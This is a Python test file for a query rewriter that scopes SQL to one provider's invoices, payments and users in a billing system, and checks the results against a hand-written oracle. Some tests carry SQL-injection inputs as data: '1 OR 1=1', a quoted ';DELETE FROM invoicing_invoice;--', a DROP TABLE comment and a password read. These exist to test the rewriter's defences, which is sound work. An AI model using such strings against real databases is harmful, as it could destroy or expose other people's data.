def test_the_rewrite_reads_the_sources_it_is_given():
    views = {name: f"ai_views.{name}" for name in schema.BY_NAME}
    tree = check(
        "SELECT l.kind, a.amount FROM invoice_lines l JOIN payment_allocations a ON a.invoice_id = l.invoice_id",
        dialect="postgres",
    )

    scoped = scoped_sql(tree, provider_id=9, dialect="postgres", sources=views)

    assert "invoicing_" not in scoped
    assert (
        "FROM ai_views.invoice_lines AS t WHERE t.invoice_id IN (SELECT id FROM ai_views.invoices " in scoped
    )
    assert "WHERE provider_id = 9)" in scoped
    assert_scoped(scoped, tree, provider_id=9, dialect="postgres", sources=views)


def test_the_whole_query_is_capped_one_row_past_the_limit():
    tree = check("SELECT number FROM invoices ORDER BY number", dialect="sqlite")

    scoped = scoped_sql(tree, provider_id=3, dialect="sqlite", limit=25)

    assert scoped.startswith("SELECT * FROM (SELECT number FROM (SELECT ")
    assert scoped.endswith(") AS answer LIMIT 26")


def test_the_rewrite_drops_comments_and_keeps_strings_as_strings():
    tree = check(
        "SELECT 'x'';DELETE FROM invoicing_invoice;--' AS s /* ; DROP TABLE x */ FROM invoices -- tail",
        dialect="postgres",
    )

    scoped = scoped_sql(tree, provider_id=3, dialect="postgres")

    assert "/*" not in scoped and "tail" not in scoped and "DROP" not in scoped
    assert "'x'';DELETE FROM invoicing_invoice;--' AS s" in scoped
    assert len(sqlglot.parse(scoped, read="postgres")) == 1


def test_the_rewrite_checks_the_tree_again():
    unchecked = sqlglot.parse_one("SELECT password FROM accounts_user", read="sqlite")

    with pytest.raises(QueryRefused, match="accounts_user"):
        scoped_sql(unchecked, provider_id=1, dialect="sqlite")


def test_a_with_name_may_not_shadow_a_source_the_rewrite_reads():
    tree = check("WITH inv AS (SELECT id FROM invoices) SELECT * FROM inv", dialect="postgres")

    with pytest.raises(QueryRefused, match="may not be named inv"):
        scoped_sql(tree, provider_id=1, dialect="postgres", sources={"invoices": "inv"})


@pytest.mark.parametrize("provider_id", ["1 OR 1=1", "2", 1.5, True, 0, None])
def test_the_provider_id_is_a_positive_int(provider_id):
    tree = check("SELECT id FROM invoices", dialect="sqlite")

    with pytest.raises(ValueError, match="provider_id"):
        scoped_sql(tree, provider_id=provider_id, dialect="sqlite")


# --- on SQLite, against two providers' books ---------------------------------------------------------

SOURCES = {table.name: table.source for table in schema.TABLES}
BY_SOURCE = {table.source: table for table in schema.TABLES}


def assert_scoped(
    scoped: str, tree: exp.Expression, *, provider_id: int, dialect: str, sources: dict
) -> None:
    """Every real table the scoped SQL reads is read in a subquery filtered on the provider (its filter,
    formatted), once per logical table the query named; nothing else is read but the query's WITH names."""
    (parsed,) = sqlglot.parse(scoped, read=dialect)
    by_source = {sources[table.name]: table for table in schema.TABLES}
    ctes = {cte.alias_or_name for cte in tree.find_all(exp.CTE)}
    named = [t for t in tree.find_all(exp.Table) if t.name.lower() in schema.BY_NAME]
    scoped_reads = 0
    for table in parsed.find_all(exp.Table):
        name = exp.table_name(table)
        if name in ctes:
            continue
        logical = by_source[name]  # a KeyError here is a read of something else
        select = table.parent.parent
        assert isinstance(table.parent, exp.From) and isinstance(select, exp.Select)
        where = select.args.get("where")
        if table.alias == "t":
            scoped_reads += 1
            if logical.provider_filter is None:
                assert where is None
            else:
                # `{provider}` is the id; any other name in braces is the logical table it reads.
                condition = logical.provider_filter.format(**{**sources, "provider": provider_id})
                assert where.this == sqlglot.parse_one(condition, read=dialect)
                assert f"= {provider_id}" in where.sql(dialect=dialect)
        else:  # the inner query of a filter through another table (invoice_lines': invoices)
            assert where.this == sqlglot.parse_one(f"provider_id = {provider_id}", read=dialect)
    assert scoped_reads == len(named)


def _books(provider, *, connections: int, rate: str, peak: int, method: PaymentMethod) -> None:
    """Three months of a provider's billing: payments, officers' credits, late surcharges, a cancelled
    bill, a billing run that skips an unread connection."""
    FlatTariffFactory(provider=provider, rate=D(rate))
    creator = UserFactory(provider=provider, roles=[Role.INVOICE_CREATOR], designation="Billing Clerk")
    officer = UserFactory(provider=provider, roles=[Role.SUPER_CREATOR], designation="Senior Billing Officer")
    for k in range(connections):
        connection = billable_connection(provider, months=3, peak=peak, off_peak=200)
        january = invoice_issue(connection=connection, period=JANUARY, created_by=creator)
        payment_post(invoice=january, amount=D("1000.00"), method=method, received_by=creator)
        february = invoice_issue(connection=connection, period=FEBRUARY, created_by=creator)
        adjustment_create(
            invoice=february, amount=D("100.00"), direction="credit", reason="Meter misread", officer=officer
        )
        if k == 0:
            march = invoice_issue(connection=connection, period=MARCH, created_by=creator)
            invoice_update(invoice=march, updated_by=creator, cancel=True)
    ConnectionFactory(customer=CustomerFactory(provider=provider), provider=provider)  # never read
    invoices_mark_overdue(provider=provider, today=date(2024, 2, 20))
    run, _ = billing_run_start(provider=provider, period=MARCH, started_by=creator)
    for chunk_id in pending_chunks(run):
        billing_run_chunk_bill(chunk_id=chunk_id)


@pytest.fixture
def providers(db) -> tuple[int, int]:
    """Mine (two billed connections) and theirs (three, dearer): their ids."""
    if database.vendor != "sqlite":
        pytest.skip(
            "the rewritten SQL is run on SQLite here; on PostgreSQL the executor's bypass tests show it"
        )
    method = PaymentMethod.objects.get_or_create(
        code="bank-counter", defaults={"name": "Paid at Bank Counter"}
    )[0]
    mine, theirs = ProviderFactory(), ProviderFactory()
    _books(mine, connections=2, rate="32.50", peak=100, method=method)
    _books(theirs, connections=3, rate="40.00", peak=150, method=method)
    assert Invoice.objects.filter(provider=theirs).exists()
    return mine.pk, theirs.pk


def run_sql(sql: str) -> list[tuple]:
    with database.cursor() as cursor:
        cursor.execute(sql)
        return sorted(cursor.fetchall(), key=repr)


def answer_for(sql: str, provider_id: int) -> list[tuple]:
    return run_sql(scoped_sql(check(sql, dialect="sqlite"), provider_id=provider_id, dialect="sqlite"))


def oracle(sql: str, provider_id: int | None) -> list[tuple]:
    """What the query answers over a database holding one provider's rows (all rows with None): the
    logical tables as temporary views written by hand, the query as the auditor wrote it."""
    only = {
        "invoice_lines": "invoice_id IN (SELECT id FROM invoicing_invoice WHERE provider_id = {p})",
        "payment_allocations": "payment_id IN (SELECT id FROM invoicing_payment WHERE provider_id = {p})",
        "credit_note_lines": "credit_note_id IN (SELECT id FROM invoicing_creditnote WHERE provider_id = {p})",
        "dunning_step_invoices": "invoice_id IN (SELECT id FROM invoicing_invoice WHERE provider_id = {p})",
        "payment_plan_invoices": "invoice_id IN (SELECT id FROM invoicing_invoice WHERE provider_id = {p})",
        "payment_file_rows": "file_id IN (SELECT id FROM invoicing_paymentfile WHERE provider_id = {p})",
        "payment_methods": None,
        "provider": "id = {p}",
    }
    with database.cursor() as cursor:
        for table in schema.TABLES:
            condition = only.get(table.name, "provider_id = {p}")
            where = f" WHERE {condition.format(p=provider_id)}" if condition and provider_id else ""
            cursor.execute(
                f"CREATE TEMP VIEW {table.name} AS SELECT {', '.join(table.columns)} FROM {table.source}{where}"
            )
        try:
            return run_sql(f"SELECT * FROM ({sql}\n) AS answer LIMIT 101")
        finally:
            for table in schema.TABLES:
                cursor.execute(f"DROP VIEW temp.{table.name}")


@pytest.mark.parametrize(("postgres", "sqlite"), ANALYTIC)
def test_the_analytic_query_answers_with_the_auditors_provider_rows_only(providers, postgres, sqlite):
    mine, theirs = providers

    answer = answer_for(sqlite, mine)

    assert answer == oracle(sqlite, mine)
    assert answer_for(sqlite, theirs) == oracle(sqlite, theirs)


def test_most_analytic_answers_would_differ_unscoped(providers):
    """The books are such that scoping shows: over everyone's rows most answers change."""
    mine, _ = providers
    answers = [(params.values[1], answer_for(params.values[1], mine)) for params in ANALYTIC]

    assert sum(bool(rows) for _, rows in answers) >= 20
    assert sum(rows != oracle(sql, None) for sql, rows in answers) >= 18


@pytest.mark.parametrize("sql", CONTAINED)
def test_another_providers_rows_are_contained(providers, sql):
    mine, theirs = providers
    sql = sql.format(mine=mine, theirs=theirs)

    answer = answer_for(sql, mine)

    assert answer == oracle(sql, mine)
    assert answer != oracle(sql, None) or not oracle(sql, theirs)


def test_a_filter_on_another_provider_returns_nothing(providers):
    mine, theirs = providers

    assert answer_for(f"SELECT * FROM invoices WHERE provider_id = {theirs}", mine) == []
    assert answer_for(f"SELECT count(*) FROM users WHERE provider_id = {theirs}", mine) == [(0,)]
    provider_ids = answer_for(
        f"SELECT provider_id FROM payments WHERE provider_id IN ({mine}, {theirs})", mine
    )
    assert {row[0] for row in provider_ids} == {mine}
    lines = answer_for("SELECT l.invoice_id FROM invoice_lines l", mine)
    assert {row[0] for row in lines} <= set(
        Invoice.objects.filter(provider_id=mine).values_list("pk", flat=True)
    )


def test_a_quote_in_a_string_stays_in_the_string(providers):
    mine, _ = providers
    before = Invoice.objects.count()

    answer = answer_for("SELECT 'x'';DELETE FROM invoicing_invoice;--' AS s FROM invoices LIMIT 1", mine)

    assert answer == [("x';DELETE FROM invoicing_invoice;--",)]
    assert Invoice.objects.count() == before


def test_the_answer_stops_one_row_past_the_limit(providers):
    mine, _ = providers

    scoped = scoped_sql(
        check("SELECT * FROM invoices", dialect="sqlite"), provider_id=mine, dialect="sqlite", limit=2
    )

    assert len(run_sql(scoped)) == 3


@pytest.mark.parametrize(
    ("sql", "instead"),
    [
        ("SELECT extract(year FROM created_at) AS year FROM invoices", "strftime('%Y', ...)"),
        ("SELECT date_trunc('month', created_at) AS month FROM invoices", "date(..., 'start of month')"),
        (
            "SELECT number FROM invoices WHERE due_date < current_date - interval '30 days'",
            "date(..., '-1 month')",
        ),
        ("SELECT now() AS moment", "datetime('now')"),
        ("SELECT concat(number, status) AS label FROM invoices", "use ||"),
    ],
)
def test_what_sqlite_cannot_run_is_refused_there_with_what_to_write_instead(sql, instead):
    check(sql, dialect="postgres")

    with pytest.raises(QueryRefused) as refusal:
        check(sql, dialect="sqlite")

    assert refusal.value.detail.startswith("This database (SQLite) cannot run ")
    assert instead in refusal.value.detail
